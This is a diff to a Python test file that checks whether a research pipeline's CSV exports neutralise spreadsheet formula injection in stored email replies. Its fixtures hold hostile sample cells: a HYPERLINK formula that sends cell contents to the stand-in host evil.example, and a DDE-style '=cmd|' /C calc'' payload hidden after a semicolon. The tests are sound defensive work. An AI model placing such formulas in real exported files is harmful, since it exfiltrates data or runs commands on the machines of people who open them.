@@ -28,6 +28,8 @@ from tests.helpers.studies import LATE, ROOT, write_study
 runner = CliRunner()
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+7 495 123-45-67 звоните", "@support в телеграме",
            "\tРаботаем до 20:00", "\rНапишите на почту", "-1 день до конца акции", "'=already quoted"]
+# a Russian-locale spreadsheet splits a line on ";" whatever the quoting: the part after it must not start a formula
+SEMICOLON = ["Имя;=cmd|' /C calc'!A0", "Тариф; +7 495 000-00-00", "ok;; @SUM(1)"]
 
 
 @pytest.fixture
@@ -46,7 +48,7 @@ def hostile(tmp_path):
 
     sent = pipe.probes(status="sent")
     msgs = []
-    for i, text in enumerate(HOSTILE):
+    for i, text in enumerate(HOSTILE + SEMICOLON):
         p = sent[i % len(sent)]
         raw = (f"From: s@{p.contact.split('@')[1]}\r\nSubject: {'@SUM(1+1)' if i == 0 else 'Re: ' + p.subject}\r\n"
                f"In-Reply-To: {p.message_id}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").encode()
@@ -56,7 +58,7 @@ def hostile(tmp_path):
     Understander(pipe.study, pipe.store, pipe.clock).run()
     with sqlite3.connect(tmp_path / "a.db") as conn:
         for rid, text in conn.execute("SELECT id, text FROM reply ORDER BY id").fetchall():
-            want = HOSTILE[rid - 1]
+            want = (HOSTILE + SEMICOLON)[rid - 1]
             if text != want:  # trimmed by understanding: store the stranger's exact words
                 conn.execute("UPDATE reply SET text = ? WHERE id = ?", (want, rid))
     return study, tmp_path / "a.db", pipe
@@ -68,7 +70,9 @@ def _csv(path):
 
 
 def _safe(text: str) -> bool:
-    return not text or text[0] not in "=+-@\t\r"
+    """No cell, nor any part of one a `;`-splitting spreadsheet makes a cell, starts a formula."""
+    return all(not part.lstrip(" ") or part.lstrip(" ")[0] not in "=+-@\t\r" for part in text.split(";")) and (
+        not text or text[0] not in "=+-@\t\r")
 
 
 def test_the_rule_follows_the_column_type():
@@ -82,6 +86,11 @@ def test_the_rule_follows_the_column_type():
     assert out.getvalue() == "'=1+1,-1.5,3,,ok\r\n"
     for t in HOSTILE:  # reversible: drop one leading '
         assert neutralise(t)[1:] == t
+    import re as _re
+
+    for t in SEMICOLON:  # ...and one ' after a ";" that a formula character follows
+        assert _safe(neutralise(t)) and not _safe(t)
+        assert _re.sub(r";(\s*)'", r";\1", neutralise(t)) == t
 
 
 def test_every_csv_neutralises_hostile_replies_and_keeps_numbers(hostile, tmp_path):
@@ -101,12 +110,12 @@ def test_every_csv_neutralises_hostile_replies_and_keeps_numbers(hostile, tmp_pa
     assert all(r["score"] == "" or 0 <= float(r["score"]) <= 4 for r in rows)
 
     replies = _csv(tmp_path / "t" / "replies.csv")
-    assert [r["text"] for r in replies] == ["'" + t for t in HOSTILE]
+    assert [r["text"] for r in replies] == ["'" + t for t in HOSTILE] + [neutralise(t) for t in SEMICOLON]
     for name in ("probes", "replies", "scores", "companies", "codebook"):
         for r in _csv(tmp_path / "t" / f"{name}.csv"):
             assert all(_safe(v) for v in r.values()), (name, r)
     assert all(float(r["calendar_seconds"]) > 0 for r in replies)
-    assert [r["is_answer"] for r in replies] == ["1", "1", "1", "0", "0", "0", "0"]
+    assert [r["is_answer"] for r in replies] == ["1", "1", "1"] + ["0"] * (len(HOSTILE + SEMICOLON) - 3)
     scores = _csv(tmp_path / "t" / "scores.csv")
     assert {r["rater"] for r in scores} == {"auto"} and all(r["score"] in "01234" for r in scores)
 
@@ -118,7 +127,8 @@ def test_tables_follow_the_codebook_and_join(hostile, tmp_path):
     answer = pipe.store.execute("SELECT answer_reply_id FROM probe WHERE answer_reply_id IS NOT NULL")[0][0]
     record_score(pipe.store, answer, "anna", 1, pipe.clock)
     counts = write_tables(pipe.store, pipe.study, tmp_path / "t", now=LATE + timedelta(days=30))
-    assert counts == {"probes": 4, "replies": 7, "scores": 8, "companies": 4}
+    n = len(HOSTILE + SEMICOLON)
+    assert counts == {"probes": 4, "replies": n, "scores": n + 1, "companies": 4}
     book = codebook()
     for table, cols in columns().items():
         with open(tmp_path / "t" / f"{table}.csv", encoding="utf-8", newline="") as fh:
@@ -147,7 +157,7 @@ def test_parquet_keeps_types_and_the_exact_words(hostile, tmp_path):
                                  "--parquet"])
     assert result.exit_code == 0, result.output
     replies = pq.read_table(tmp_path / "p" / "replies.parquet")
-    assert replies.column("text").to_pylist() == HOSTILE  # typed files are not spreadsheets: nothing added
+    assert replies.column("text").to_pylist() == HOSTILE + SEMICOLON  # typed files are not spreadsheets: nothing added
     schema = pq.read_table(tmp_path / "p" / "probes.parquet").schema
     want = {"integer": "int64", "number": "double", "text": "string", "boolean": "bool",
             "time": "timestamp[us, tz=UTC]"}
